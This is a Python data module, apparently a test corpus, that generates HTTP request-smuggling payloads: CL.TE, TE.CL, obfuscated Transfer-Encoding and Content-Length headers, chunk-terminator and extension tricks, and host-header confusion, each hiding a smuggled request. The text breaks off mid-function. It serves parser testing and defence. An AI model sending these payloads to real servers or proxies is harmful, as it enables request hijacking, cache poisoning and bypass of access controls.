"""What clients have been seen to send so that two readers disagree about it: a table, by the name of the attack.

Each entry is one client's bytes on one connection. `/smuggled` is the target of a request that nobody must see as one
of its own where it stands in a body. Sources: RFC 9112 §11.2, the published research on request smuggling since 2005
(CL.TE, TE.CL, TE.TE, CL.0, 0.CL, TE.0, h2c upgrades, chunk extensions, `Expect`), advisories of servers and proxies.
"""

from __future__ import annotations

from collections.abc import Iterable

HOST = b"Host: h\r\n"
HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n"
NEXT = b"GET /next HTTP/1.1\r\nHost: h\r\n\r\n"
PIECES = b"Transfer-Encoding: chunked\r\n"
NO_CHUNKS = b"0\r\n\r\n"
CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)

Family = dict[str, bytes]


def _named(entries: Iterable[tuple[bytes, bytes]]) -> Family:
    return {repr(name)[2:-1]: data for name, data in entries}


def ask(fields: bytes = b"", body: bytes = b"", first: bytes = b"POST /a HTTP/1.1") -> bytes:
    """A request with a host."""
    return b"%b\r\n%b%b\r\n%b" % (first, HOST, fields, body)


def sized(body: bytes, size: int | None = None) -> bytes:
    """A length field; that of the body unless told otherwise."""
    return b"Content-Length: %d\r\n" % (len(body) if size is None else size)


CODINGS = (
    b"Transfer-Encoding: chunked", b"Transfer-Encoding:chunked", b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:  chunked", b"transfer-encoding: chunked", b"tRANSFER-eNCODING: chunked",
    b"Transfer-Encoding: Chunked", b"Transfer-Encoding: cHuNkEd", b"Transfer-Encoding: chunked ",
    b"Transfer-Encoding: chunked\t", b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding \t : chunked", b" Transfer-Encoding: chunked", b"\tTransfer-Encoding: chunked",
    b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: chu nked", b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: chunked\x0c", b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding: chunked\x00", b"Transfer-Encoding: \x1fchunked", b"Transfer-Encoding: \x7fchunked",
    b"Transfer-Encoding: \xa0chunked", b"Transfer-Encoding: chunked\xa0", b"Transfer-Encoding: \xffchunked",
    b"Transfer-Encoding: \x85chunked", b"Transfer-Encoding: chun\xe2\x84\xaaed", b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding\x0b: chunked", b"Transfer-Encoding\r: chunked", b"Transfer-Encodin\xc7: chunked",
    b"\x00Transfer-Encoding: chunked", b"\x0bTransfer-Encoding: chunked", b"\xef\xbb\xbfTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked", b"TransferEncoding: chunked", b"Transfer-Encoding",
    b"Transfer-Encoding chunked", b"Transfer-Encoding= chunked", b"Transfer-Encoding; chunked",
    b":Transfer-Encoding: chunked", b"Transfer-Encoding:: chunked", b"(Transfer-Encoding): chunked",
    b"Transfer-Encoding:", b"Transfer-Encoding: ", b"Transfer-Encoding: identity", b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: chunked,chunked",
    b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: chunked, gzip", b"Transfer-Encoding: chunked, cow",
    b"Transfer-Encoding: cow, chunked", b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,", b"Transfer-Encoding: chunked;", b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: chunked; a=\"b\"", b"Transfer-Encoding: identity;chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-encoding: cow", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding:", b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nX: y\r\ntransfer-encoding: chunked", b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding:\r\n\tchunked", b"Transfer-Encoding:\n chunked", b"Transfer-Encoding: \nchunked",
    b"Transfer-Encoding:\r chunked", b"Transfer-Encoding\r\n : chunked", b"Transfer-Encoding\n: chunked",
    b"Transfer-Encoding: chunked\r\n , identity", b"Transfer-Encoding: identity\r\n , chunked",
    b"Transfer-Encoding: chunked\r\n ", b"X: y\r\n Transfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked", b"X: y\r\rTransfer-Encoding: chunked", b"X: y\n\rTransfer-Encoding: chunked",
    b"X:\nTransfer-Encoding: chunked", b"X: y\r\n\rTransfer-Encoding: chunked",
    b"X: y\x00\r\nTransfer-Encoding: chunked", b"X: \"\r\nTransfer-Encoding: chunked\r\nY: \"",
    b"Transfer-Encoding: chunked\rX: y", b"Transfer-Encoding: chunked\nX: y", b"Transfer-Encoding: chunked\r\r",
    b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nConnection: close, Transfer-Encoding", b"TE: chunked",
    b"Content-Encoding: chunked", b"X-Transfer-Encoding: chunked", b"Transfer-Encoding-X: chunked",
    b"Proxy-Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
)  # fmt: skip
"""Lines that are, or look like, a transfer coding."""

LENGTHS = (
    b"5", b" 5", b"  5", b"\t5", b"5 ", b"5\t", b"05", b"0" * 50 + b"5", b"+5", b"-5", b"--5", b"5.0", b"5.", b"5e0",
    b"0x5", b"0b101", b"0o5", b"5_", b"1_0", b"5a", b"a5", b"5;", b"5;a", b"(5)", b"\"5\"", b"'5'", b"5 5", b"5\t5",
    b"5, 5", b"5,5", b"5, 6", b"6, 5", b"5,", b",5", b",", b"", b" ", b"\x0b5", b"5\x0b", b"\x0c5", b"\x005",
    b"5\x00", b"5\x006", b"\xb2", b"\xd9\xa5", b"\xef\xbc\x95", b"\xa05", b"5\xa0", b"5\n6", b"5\r6", b"5\r\n 6",
    b"5\r\n\t", b"\r\n 5", b"\n 5", b"5\n", b"5\r", b"18446744073709551616", b"18446744073709551621",
    b"9223372036854775808", b"4294967301", b"9" * 40, b"9" * 5000, b"-0", b"+0", b"0, 5", b"0x0", b"NaN", b"null",
    b"chunked", b"5\r\nContent-Length: 5", b"5\r\nContent-Length: 6", b"6\r\nContent-Length: 5",
    b"0\r\nContent-Length: 5", b"5\r\nContent-Length: 0", b"5\r\nX: y\r\ncontent-length: 5", b"5\r\nContent-Length:",
    b"5\r\ncONTENT-lENGTH: 05", b"5\r\nContent-Length : 0", b"5\r\n Content-Length: 0", b"5\r\nContent_Length: 0",
    b"5\r\nContent-Length\x00: 0", b"5\nContent-Length: 0", b"5\rContent-Length: 0",
    b"5\r\nConnection: content-length", b"5\r\nConnection: close, Content-Length", b"5\r\nX-Content-Length: 0",
    b"5\r\nContent-Length-X: 0", b"5\r\nTrailer: Content-Length",
)  # fmt: skip
"""Values of a length field, some with more lines behind them."""

LENGTH_NAMES = (
    b"Content-Length :", b"Content-Length\t:", b" Content-Length:", b"\tContent-Length:", b"Content_Length:",
    b"Content Length:", b"ContentLength:", b"cONTENT-lENGTH:", b"Content-Length", b"Content-Length;",
    b"Content-Length=", b"Content-Length\x00:", b"\x00Content-Length:", b"Content-Length\r:", b"Content-Length\n:",
    b"Content-Length::", b":Content-Length:", b"Content-\xadLength:", b"Content-Lengt\xe8:", b"X: y\nContent-Length:",
    b"X: y\rContent-Length:", b"X: y\r\n Content-Length:", b"Connection: content-length\r\nContent-Length:",
    b"Content-Length\r\n :",
)  # fmt: skip

CHUNKS = (
    b"5\r\nabcde\r\n0\r\n\r\n", b"0\r\n\r\n", b"5\r\nabcde\r\n00\r\n\r\n", b"05\r\nabcde\r\n0\r\n\r\n",
    b"0" * 60 + b"5\r\nabcde\r\n0\r\n\r\n", b"A\r\n0123456789\r\n0\r\n\r\n", b"a\r\n0123456789\r\n000000\r\n\r\n",
    b"0x5\r\nabcde\r\n0\r\n\r\n", b"5x\r\nabcde\r\n0\r\n\r\n", b"+5\r\nabcde\r\n0\r\n\r\n",
    b"-5\r\nabcde\r\n0\r\n\r\n", b"-0\r\n\r\n", b"+0\r\n\r\n", b"5_\r\nabcde\r\n0\r\n\r\n",
    b"0_5\r\nabcde\r\n0\r\n\r\n", b"5.0\r\nabcde\r\n0\r\n\r\n", b" 5\r\nabcde\r\n0\r\n\r\n",
    b"\t5\r\nabcde\r\n0\r\n\r\n", b"5 \r\nabcde\r\n0\r\n\r\n", b"5\t\r\nabcde\r\n0\r\n\r\n",
    b"5  ;a\r\nabcde\r\n0\r\n\r\n", b"5\x0b\r\nabcde\r\n0\r\n\r\n", b"5\x00\r\nabcde\r\n0\r\n\r\n",
    b"\"5\"\r\nabcde\r\n0\r\n\r\n", b"g\r\nabcde\r\n0\r\n\r\n", b"\r\nabcde\r\n0\r\n\r\n",
    b"5,5\r\nabcde\r\n0\r\n\r\n", b"5 5\r\nabcde\r\n0\r\n\r\n", b"10000000000000005\r\nabcde\r\n0\r\n\r\n",
    b"10000000000000000\r\n\r\n", b"100000005\r\nabcde\r\n0\r\n\r\n", b"ffffffffffffffff\r\nabcde\r\n0\r\n\r\n",
    b"fffffffffffffffff\r\nabcde\r\n0\r\n\r\n", b"8000000000000005\r\nabcde\r\n0\r\n\r\n", b"5\nabcde\r\n0\r\n\r\n",
    b"5\rabcde\r\n0\r\n\r\n", b"5\r\r\nabcde\r\n0\r\n\r\n", b"5\n\r\nabcde\r\n0\r\n\r\n", b"5\r\nabcde\n0\r\n\r\n",
    b"5\r\nabcde\r0\r\n\r\n", b"5\r\nabcde0\r\n\r\n", b"5\r\nabcdeXX0\r\n\r\n", b"5\r\nabcdef\r\n0\r\n\r\n",
    b"5\r\nabcd\r\n0\r\n\r\n", b"5\r\nabcde\r\n\r\n0\r\n\r\n", b"\r\n5\r\nabcde\r\n0\r\n\r\n",
    b"5\r\nabcde\r\n0\n\r\n", b"5\r\nabcde\r\n0\r\n\n", b"5\r\nabcde\r\n0\n\n", b"5\r\nabcde\r\n0\r\r\n",
    b"5\r\nabcde\r\n0\r\rX", b"5\r\nabcde\r\n0\r\nX", b"5\r\nabcde\r\n0\r\n", b"5\r\nabcde\r\n0 \r\n\r\n",
    b"5\r\nabcde\r\n0\x00\r\n\r\n", b"5\r\nabcde\r\n0x0\r\n\r\n", b"5\r\nabcde\r\n", b"5\r\nab", b"5",
)  # fmt: skip
"""Bodies in chunks, right and wrong."""

EXTENSIONS = (
    b";a", b";a=b", b";a=\"b\"", b";a=\"b c;d\"", b";a=\"\\\"\"", b";a;b;c=d", b"; a", b" ;a", b";a =b", b";a= b",
    b";a=b ", b";", b";;", b";=", b";=b", b";a=", b";a==b", b";a=\"", b";a=\"b", b";a=\"b\"c", b";a=\"b\n\"",
    b";a=\"b\r\"", b";a=\"b\r\nc\"", b";\n", b";\nxx", b";a\n", b";a=b\n", b";\rX", b";a\rX", b";a=b\rX", b";a\x00",
    b";\x00", b";a=\x7f", b";a=\"\x00\"", b";a=\"\x80\"", b";\x80", b";a=\xff", b";(", b";a=\"\t\"", b";a=\"\\\r\n\"",
    b";a=\"\\\n\"", b";\t", b";\x0b", b";" + b"x" * 300, b";Content-Length=3", b";\r\nX: y", b";\r\n\r\n",
)  # fmt: skip
"""What stands between the size of a chunk and the end of its line."""

TRAILERS = (
    b"A: b\r\n", b"A: b\r\nC: d\r\n", b"A:\r\n", b"Content-Length: 5\r\n", b"Content-Length: 0\r\n",
    b"content_length: 5\r\n", b"Transfer-Encoding: chunked\r\n", b"Transfer-Encoding: identity\r\n",
    b"Host: evil\r\n", b"Connection: close\r\n", b"Connection: keep-alive\r\n", b"Upgrade: h2c\r\n",
    b"Connection: upgrade\r\nUpgrade: h2c\r\n", b"Cookie: a=b\r\n", b"Authorization: a\r\n",
    b"X-Forwarded-For: 1\r\n", b"X_Forwarded_For: 1\r\n", b"Expect: 100-continue\r\n", b"Trailer: A\r\n",
    b"A : b\r\n", b" A: b\r\n", b"A: b\r\n c\r\n", b"A: b\n", b"A: b\nC: d\r\n", b"A: b\rC: d\r\n", b"A: b\x00\r\n",
    b"A\r\n", b": b\r\n", b"A\x00: b\r\n", b"A b: c\r\n", b"A: \xff\r\n", b"GET /smuggled HTTP/1.1\r\nHost: h\r\n",
    b"GET: /smuggled\r\n", b"A: b\r\n" * 200, b"A: " + b"b" * 70_000 + b"\r\n",
)  # fmt: skip
"""Lines behind the last chunk."""

_FIRST = (
    b"GET /a HTTP/1.1", b"GET /a HTTP/1.0", b"GET /a HTTP/0.9", b"GET /a HTTP/1.2", b"GET /a HTTP/1.9",
    b"GET /a HTTP/2.0", b"GET /a HTTP/2", b"GET /a HTTP/3.0", b"GET /a HTTP/1", b"GET /a HTTP/1.", b"GET /a HTTP/.1",
    b"GET /a HTTP/11", b"GET /a HTTP/1.11", b"GET /a HTTP/01.1", b"GET /a HTTP/1.01", b"GET /a HTTP/1.1x",
    b"GET /a HTTP/1.1 x", b"GET /a HTTP/1.1 ", b"GET /a HTTP/1.1\t", b"GET /a HTTP/1.1\x00", b"GET /a HTTP/1,1",
    b"GET /a http/1.1", b"GET /a Http/1.1", b"GET /a HTTPS/1.1", b"GET /a HTTP/-1.1", b"GET /a HTTP/+1.1",
    b"GET /a HTTP /1.1", b"GET /a HTTP/ 1.1", b"GET /a HTTP/1 .1", b"GET /a XTTP/1.1", b"GET /a ICE/1.0",
    b"GET /a RTSP/1.0", b"GET /a RTSP/1.1", b"POST /a  RTSP/1.1", b"OPTIONS * RTSP/1.0", b"GET /a", b"GET /a ",
    b"GET", b"GET ", b"", b"GET  /a HTTP/1.1", b"GET /a  HTTP/1.1", b"GET\t/a HTTP/1.1", b"GET /a\tHTTP/1.1",
    b"GET\x0b/a HTTP/1.1", b"GET /a\x0cHTTP/1.1", b"GET\x00/a HTTP/1.1", b"GET\r/a HTTP/1.1", b"GET /a\rHTTP/1.1",
    b"GET /a\nHTTP/1.1", b"GET /a\x0bHTTP/1.1", b" GET /a HTTP/1.1", b"\tGET /a HTTP/1.1", b"\x00GET /a HTTP/1.1",
    b"\r\nGET /a HTTP/1.1", b"\r\n\r\n\r\nGET /a HTTP/1.1", b"\nGET /a HTTP/1.1", b"\rGET /a HTTP/1.1",
    b"\r\n GET /a HTTP/1.1", b"GET /a b HTTP/1.1", b"GET /a HTTP/1.1 HTTP/1.1", b"GET /a\x00 HTTP/1.1",
    b"GET /a\x01 HTTP/1.1", b"GET /a\x7f HTTP/1.1", b"GET /a\xff HTTP/1.1", b"GET /\xc3\xa9 HTTP/1.1",
    b"GET /a\xa0 HTTP/1.1", b"GET /a#b HTTP/1.1", b"GET /a?b#c HTTP/1.1", b"GET /a%00 HTTP/1.1",
    b"GET /a%0d%0aX:%20y HTTP/1.1", b"GET /a%2 HTTP/1.1", b"GET /a?%0d%0a HTTP/1.1", b"GET /a?\" HTTP/1.1",
    b"GET /a\\..\\b HTTP/1.1", b"GET /../a HTTP/1.1", b"GET //a HTTP/1.1", b"GET ///h/a HTTP/1.1", b"GET a HTTP/1.1",
    b"GET ? HTTP/1.1", b"GET * HTTP/1.1", b"OPTIONS * HTTP/1.1", b"OPTIONS ** HTTP/1.1", b"POST * HTTP/1.1",
    b"GET /* HTTP/1.1", b"GET h HTTP/1.1", b"GET h:80 HTTP/1.1", b"CONNECT h:80 HTTP/1.1", b"CONNECT /a HTTP/1.1",
    b"GET http://h/a HTTP/1.1", b"GET HTTP://h/a HTTP/1.1", b"GET http://evil/a HTTP/1.1",
    b"GET http://h:80/a HTTP/1.1", b"GET http://h HTTP/1.1", b"GET http://h?a HTTP/1.1", b"GET http:///a HTTP/1.1",
    b"GET http:/a HTTP/1.1", b"GET http:a HTTP/1.1", b"GET http://u@h/a HTTP/1.1", b"GET http://u:p@h/a HTTP/1.1",
    b"GET http://h\\@evil/a HTTP/1.1", b"GET http://h:x/a HTTP/1.1", b"GET http://h:/a HTTP/1.1",
    b"GET http://h h/a HTTP/1.1", b"GET http://[::1]/a HTTP/1.1", b"GET http://[::1/a HTTP/1.1",
    b"GET https://h/a HTTP/1.1", b"GET ftp://h/a HTTP/1.1", b"GET ws://h/a HTTP/1.1",
    b"GET file:///etc/passwd HTTP/1.1", b"GET javascript:a HTTP/1.1", b"GET //h/a HTTP/1.1",
    b"GET http://h/a#b HTTP/1.1", b"GET http://h#@evil/a HTTP/1.1", b"GET http://h/ http://evil/ HTTP/1.1",
    b"GET @h/a HTTP/1.1", b"get /a HTTP/1.1", b"Get /a HTTP/1.1", b"GETT /a HTTP/1.1", b"G\x00ET /a HTTP/1.1",
    b"G\xc9T /a HTTP/1.1", b"GET/a HTTP/1.1", b"(GET) /a HTTP/1.1", b"GET: /a HTTP/1.1", b"FOO /a HTTP/1.1",
    b"TRACE /a HTTP/1.1", b"TRACK /a HTTP/1.1", b"QUERY /a HTTP/1.1", b"PROPFIND /a HTTP/1.1", b"M-SEARCH * HTTP/1.1",
    b"PRI * HTTP/2.0", b"PRI /a HTTP/1.1", b"SOURCE /a HTTP/1.1", b"DESCRIBE /a RTSP/1.0", b"HTTP/1.1 200 OK",
    b"X: y", b"\x16\x03\x01\x02\x00\x01", b"GET /a HTTP/1.1\r", b"GET /a HTTP/1.1\r\n Host: folded",
    b"GET /a HTTP/1.1\r\n\tfolded", b"GET /a\r\n HTTP/1.1", b"GET \r\n /a HTTP/1.1",
    b"GET /" + b"a" * 9000 + b" HTTP/1.1",
)  # fmt: skip
"""First lines, right and wrong."""

FIELDS = (
    b"X : y", b"X\t: y", b" X: y", b"\tX: y", b"X: y\r\n z", b"X: y\r\n\tz", b"X: y\r\n ", b"X:\r\n y", b"X\r\n : y",
    b"X: y\r\n \r\n z", b"X", b"X y", b"X;", b": y", b" : y", b"\xff: y", b"X\xff: y", b"X\x00: y", b"X\x0b: y",
    b"X\x7f: y", b"X(: y", b"X/Y: z", b"X@: y", b"X[]: y", b"X{}: y", b"X\": y", b"X=: y", b"X,: y", b"X?: y",
    b"X\\: y", b"X Y: z", b"X: y\x00", b"X: \x00y", b"X: y\rz", b"X: y\r", b"X: y\nz", b"X: y\n", b"X: y\nZ: a",
    b"X: y\r\r", b"X: y\n\r", b"X: y\x0bz", b"X: y\x7f", b"X: y\x01", b"X: \xff\x80", b"X:", b"X:y", b"X:\ty",
    b"X: y\t", b"X: " + b"y" * 40_000, b"X: y\r\n" * 120 + b"X: y", b"X_Y: z", b"Host_: i", b"hOST_: i",
    b"Content_Type: a", b"X_Forwarded_For: 1.2.3.4", b"X-Forwarded-For: 1.2.3.4", b"X-Forwarded_For: 1.2.3.4",
    b"Forwarded: for=1.2.3.4", b"X_Real_IP: 1", b"X-Request-Id: forged", b"X_Request_Id: forged",
    b"x-request-id: a\r\nX-REQUEST-ID: b", b"Via: 1.1 me", b"Transfer_Encoding: chunked", b"Connection: host",
    b"Connection: Host, X\r\nX: y", b"Connection: cookie\r\nCookie: a=b", b"Connection: x-request-id, via",
    b"Connection: x-forwarded-for\r\nX-Forwarded-For: 1", b"Connection: authorization\r\nAuthorization: b",
    b"Connection: expect", b"Connection: connection", b"Connection: keep-alive, x, close\r\nX: y",
    b"Connection: close\r\nConnection: keep-alive", b"Connection: keep-alive\r\nConnection: close", b"Connection:",
    b"Connection: ,", b"Connection: \"close\"", b"Connection: close\x0b", b"Connection: \xffclose",
    b"Connection: content-length", b"Connection: transfer-encoding", b"Keep-Alive: timeout=5, max=1",
    b"Proxy-Connection: close", b"Proxy-Connection: keep-alive", b"TE: trailers", b"TE: chunked",
    b"TE: trailers\r\nConnection: TE", b"Upgrade: h2c", b"Upgrade: websocket\r\nConnection: Upgrade",
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings",
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA", b"Upgrade: TLS/1.0\r\nConnection: Upgrade",
    b"Upgrade:\r\nConnection: upgrade", b"Upgrade: h2c\r\nConnection: Upgrade, close",
    b"Sec-WebSocket-Key: a\r\nUpgrade: websocket\r\nConnection: upgrade", b":method: GET", b":authority: evil",
    b":path: /smuggled", b"Method: a", b"X-HTTP-Method-Override: PUT", b"Range: bytes=0-1",
    b"Trailer: Content-Length", b"Max-Forwards: 0", b"Content-Type: text/plain",
)  # fmt: skip
"""Field lines, right and wrong."""

_HOSTS = (
    b"", b"Host: h\r\nHost: h\r\n", b"Host: h\r\nHost: i\r\n", b"Host: h\r\nhost: h\r\n",
    b"Host: h\r\nX: y\r\nhOsT: i\r\n", b"Host:\r\n", b"Host: \r\n", b"Host: h, i\r\n", b"Host: h,h\r\n",
    b"Host: h i\r\n", b"Host: u@h\r\n", b"Host: u:p@h\r\n", b"Host: h/a\r\n", b"Host: h?a\r\n", b"Host: h#a\r\n",
    b"Host: h\\a\r\n", b"Host: h:80\r\n", b"Host: h:\r\n", b"Host: h:x\r\n", b"Host: h:80:80\r\n", b"Host: h:-1\r\n",
    b"Host: h:99999\r\n", b"Host: :80\r\n", b"Host: h\x00\r\n", b"Host: h\x0b\r\n", b"Host: h\xff\r\n",
    b"Host: \xc3\xa9.example\r\n", b"Host: h\rX\r\n", b"Host: h\nX: y\r\n", b"Host: h\r\n i\r\n", b"Host:\r\n h\r\n",
    b" Host: h\r\n", b"\tHost: h\r\n", b"Host : h\r\n", b"Host\t: h\r\n", b"Host:h\r\n", b"Host:\th\r\n",
    b"Host: h \r\n", b"Host: h\t\r\n", b"Host: [::1]\r\n", b"Host: [::1]:80\r\n", b"Host: [::1\r\n", b"Host: ::1\r\n",
    b"Host: [h]\r\n", b"Host: http://h\r\n", b"Host: //h\r\n", b"Host: h\r\nX-Host: evil\r\n",
    b"Host: h\r\n Host: evil\r\n", b"Host: h\r\nHost : evil\r\n", b"Host: h\r\nHost\x00: evil\r\n",
    b"Host: h\r\n\x0bHost: evil\r\n", b"Host: \"h\"\r\n", b"Host: <h>\r\n", b"Host: h;i\r\n", b"Host: h%2fi\r\n",
    b"Host: h%00\r\n", b"Host: H.EXAMPLE\r\n", b"Host: h.\r\n", b"Host: ..\r\n", b"Host: h_i\r\n", b"Host: *\r\n",
    b"Host: " + b"h" * 3000 + b"\r\n", b"X-Forwarded-Host: evil\r\nHost: h\r\n", b"Connection: host\r\nHost: h\r\n",
    b"HOST: h\r\n", b"Host_: h\r\n", b"hOST: h\r\n",
)  # fmt: skip
"""The fields that say, or seem to say, for whom a request is."""

_EXPECTATIONS = (
    b"100-continue", b"100-Continue", b" 100-continue ", b"100-continue, 100-continue", b"y 100-continue",
    b"100-continue y", b"100-continue\x0b", b"\x0b100-continue", b"100-continue\x00", b"\n100-continue",
    b"\r\n 100-continue", b"", b"200-ok", b"100-continu", b"\"100-continue\"", b"a=b", b"100",
    b"100-continue\r\nExpect: 100-continue", b"100-continue\r\nExpect: y", b"y\r\nExpect: 100-continue",
    b"100-continue;q=1", b",100-continue",
)  # fmt: skip

_METHODS = (
    b"GET",
    b"HEAD",
    b"DELETE",
    b"OPTIONS",
    b"PUT",
    b"PATCH",
    b"TRACE",
    b"QUERY",
    b"PROPFIND",
    b"REPORT",
    b"LINK",
    b"MKCOL",
    b"SEARCH",
    b"PURGE",
)


def _codings() -> Family:
    behind = NO_CHUNKS + HIDDEN
    entries = []
    for line in CODINGS:
        line += b"\r\n"
        entries += [
            (b"CL.TE " + line, ask(sized(behind) + line, behind)),
            (b"TE.CL " + line, ask(line + sized(b"", 4), CHUNK)),
            (b"TE alone " + line, ask(line, NO_CHUNKS + NEXT)),
            (b"TE on 1.0 " + line, ask(line + b"Connection: keep-alive\r\n", behind, b"POST /a HTTP/1.0")),
        ]
    return _named(entries)


def _lengths() -> Family:
    entries = [(b"CL " + value, ask(b"Content-Length: " + value + b"\r\n", b"abcde" + NEXT)) for value in LENGTHS]
    entries += [
        (b"CL, no space " + value, ask(b"content-length:" + value + b"\r\n", b"abcde" + NEXT)) for value in LENGTHS
    ]
    entries += [
        (b"CL on 1.0 " + value, ask(b"Content-Length: " + value + b"\r\n", b"abcde", b"POST /a HTTP/1.0"))
        for value in LENGTHS
    ]
    entries += [(name, ask(name + b" %d\r\n" % len(HIDDEN), HIDDEN)) for name in LENGTH_NAMES]
    entries += [(name + b" beside a true one", ask(name + b" 0\r\n" + sized(HIDDEN), HIDDEN)) for name in LENGTH_NAMES]
    return _named(entries)


def _chunks() -> Family:
    entries = [(b"chunks " + body, ask(PIECES, body + NEXT)) for body in CHUNKS]
    for extension in EXTENSIONS:
        entries += [
            (b"EXT " + extension, ask(PIECES, b"5" + extension + b"\r\nabcde\r\n0\r\n\r\n" + NEXT)),
            (b"EXT at the end " + extension, ask(PIECES, b"5\r\nabcde\r\n0" + extension + b"\r\n\r\n" + NEXT)),
            (b"EXT hides " + extension, ask(PIECES, b"2" + extension + b"\r\nxx\r\n" + CHUNK + NEXT)),
        ]
    entries += [
        (b"trailer " + lines[:60], ask(PIECES, b"5\r\nabcde\r\n0\r\n" + lines + b"\r\n" + NEXT)) for lines in TRAILERS
    ]
    return _named(entries) | _spills()


def _spills() -> Family:
    """Where a line of a chunk ends, and where a chunk does: TERM, EXT, SPILL, as they were called in 2025."""
    inner = b"3f\r\n" + HIDDEN
    return {
        "TERM.EXT": ask(PIECES, b"2;\nxx\r\n%b\r\n0\r\n\r\n" % inner),
        "EXT.TERM": ask(PIECES, b"2;\nxx\r\n0\r\n\r\n" + HIDDEN),
        "TERM.EXT with a carriage return": ask(PIECES, b"2;\rxx\r\n" + inner + b"\r\n0\r\n\r\n"),
        "TERM.EXT with three bytes": ask(PIECES, b"2;\n\n\nxx\r\n" + inner),
        "TERM.SPILL": ask(PIECES, b"5\r\nAAAAA\n2\r\nxx\r\n0\r\n\r\n" + HIDDEN),
        "SPILL.TERM": ask(PIECES, b"5\r\nAAAAAXX2\r\nxx\r\n0\r\n\r\n" + HIDDEN),
        "SPILL with two bytes": ask(PIECES, b"5\r\nAAAAArr\r\n0\r\n\r\n" + HIDDEN),
        "SPILL with one": ask(PIECES, b"5\r\nAAAAA\r0\r\n\r\n" + HIDDEN),
        "ONE.TWO": ask(PIECES, b"5\r\nAAAAA\n0\r\n\r\n" + HIDDEN),
        "TWO.ONE": ask(PIECES, b"5\r\nAAAAA\r\n0\n\n" + HIDDEN),
        "ZERO.TWO": ask(PIECES, b"5\r\nAAAAA0\r\n\r\n" + HIDDEN),
        "a last chunk with one line end": ask(PIECES, b"0\r\n" + HIDDEN),
        "a last chunk with a chunk behind it": ask(PIECES, b"0\r\n5\r\nAAAAA\r\n0\r\n\r\n"),
        "a request in place of a trailer": ask(PIECES, b"0\r\nX: y\r\n" + HIDDEN),
        "chunks that never end": ask(PIECES, b"1\r\na\r\n" * 50),
        "an extension that never ends": ask(PIECES, b"1;" + b"x" * 100_000),
        "a size that never ends": ask(PIECES, b"0" * 100_000),
    }


def _lines() -> Family:
    entries = [(b"first " + line[:60], line + b"\r\n" + HOST + b"\r\n" + NEXT) for line in _FIRST]
    entries += [
        (b"first, with a body " + line[:60], line + b"\r\n" + HOST + sized(HIDDEN) + b"\r\n" + HIDDEN)
        for line in _FIRST
    ]
    for line in FIELDS:
        entries += [
            (b"field " + line[:60], ask(line + b"\r\n", NEXT, b"GET /a HTTP/1.1")),
            (b"field first " + line[:60], b"GET /a HTTP/1.1\r\n" + line + b"\r\n" + HOST + b"\r\n" + NEXT),
            (b"field and body " + line[:60], ask(line + b"\r\n" + sized(HIDDEN), HIDDEN)),
            (b"field and chunks " + line[:60], ask(line + b"\r\n" + PIECES, CHUNK)),
        ]
    return _named(entries) | {
        "first line and bare line feeds": b"GET /a HTTP/1.1\nHost: h\n\n" + NEXT,
        "first line and carriage returns": b"GET /a HTTP/1.1\rHost: h\r\r" + NEXT,
        "the empty line is a line feed": b"GET /a HTTP/1.1\r\nHost: h\r\n\n" + NEXT,
        "the empty line is a carriage return": b"GET /a HTTP/1.1\r\nHost: h\r\n\r" + NEXT,
        "the empty line has a space": b"GET /a HTTP/1.1\r\nHost: h\r\n \r\n" + NEXT,
        "the empty line has a NUL": b"GET /a HTTP/1.1\r\nHost: h\r\n\0\r\n" + NEXT,
        "a head of NULs": b"\0" * 1000,
        "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
        "HTTP/2 after a request": NEXT + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
        "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 32,
        "the PROXY protocol": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + NEXT,
        "RTSP without fields": b"GET /a RTSP/1.0\r\n\r\n",
        "HTTP/0.9": b"GET /a\r\n" + NEXT,
        "HTTP/0.9 and a host": b"GET /a\r\nHost: h\r\n\r\n" + NEXT,
    }  # fmt: skip


def _hosts() -> Family:
    entries = []
    for lines in _HOSTS:
        entries += [
            (b"host " + lines[:60], b"GET /a HTTP/1.1\r\n" + lines + b"\r\n" + NEXT),
